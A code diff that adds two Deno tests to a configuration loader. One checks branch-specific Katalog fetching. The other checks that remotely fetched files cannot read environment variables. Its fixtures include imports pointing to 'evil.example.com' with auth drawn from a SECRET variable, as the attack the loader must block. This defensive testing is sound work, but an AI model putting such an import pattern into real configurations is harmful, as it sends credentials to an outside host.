@@ -213,6 +213,56 @@ Deno.test("sources: Git and registries through their ports, credentials from var
   ]);
 });
 
+Deno.test("sources: named Katalogs of a repository, each at its branch", async () => {
+  const asked: (string | undefined)[] = [];
+  const git = {
+    fetch: ({ ref }: TreeRequest) => {
+      asked.push(ref);
+      return Promise.resolve({ directory: "git", revision: "r" });
+    },
+  };
+  const loaded = await loadTexts({
+    "input.yaml": komposer(
+      "imports: {registry: [{url: 'https://x/y.git//ops', katalog: {a: {branch: v1}, b: {}}}]}\n",
+    ),
+    "git/ops/a/katalog.yaml": katalog("", "", "a"),
+    "git/ops/b/katalog.yaml": katalog("", "", "b"),
+  }, { ports: { git } });
+  deepEqual(loaded.codes, []);
+  deepEqual(asked, ["v1", "main"]);
+  deepEqual(Object.keys(loaded.crds), ["a", "b"]);
+});
+
+Deno.test("a file from elsewhere does not learn variables, directly or through what it imports", async () => {
+  const inner = (files: string) => komposer(`imports: {files: [${files}]}\nspec: {crds: {a: {${TYPES}}}}\n`);
+  const asked: string[] = [];
+  const ports = {
+    git: { fetch: () => Promise.resolve({ directory: "git", revision: "r" }) },
+    variable: (name: string) => {
+      asked.push(name);
+      return "x";
+    },
+  };
+  const fetched = {
+    "git/komposer.yaml": inner("./next.yaml"),
+    "git/next.yaml": inner(
+      "$SECRET, {url: 'https://evil.example.com/k.yaml', auth: {type: bearer, fromEnv: SECRET}}",
+    ),
+    "https://h/k.yaml": inner(
+      "{url: 'https://evil.example.com/k.yaml', auth: {type: basic, fromEnv: SECRET}}",
+    ),
+  };
+  for (
+    const source of ["registry: [{url: 'https://x/y.git', useKomposer: true}]", "files: ['https://h/k.yaml']"]
+  ) {
+    const loaded = await loadTexts({ ...fetched, "input.yaml": komposer(`imports: {${source}}\n`) }, {
+      ports,
+    });
+    equal(loaded.codes.includes("ORK1235"), true, source);
+  }
+  deepEqual(asked, []);
+});
+
 Deno.test("sources: a chart is rendered with its values, and only its Katalogs count", async () => {
   const asked: ChartRequest[] = [];
   const load = (text: string) =>
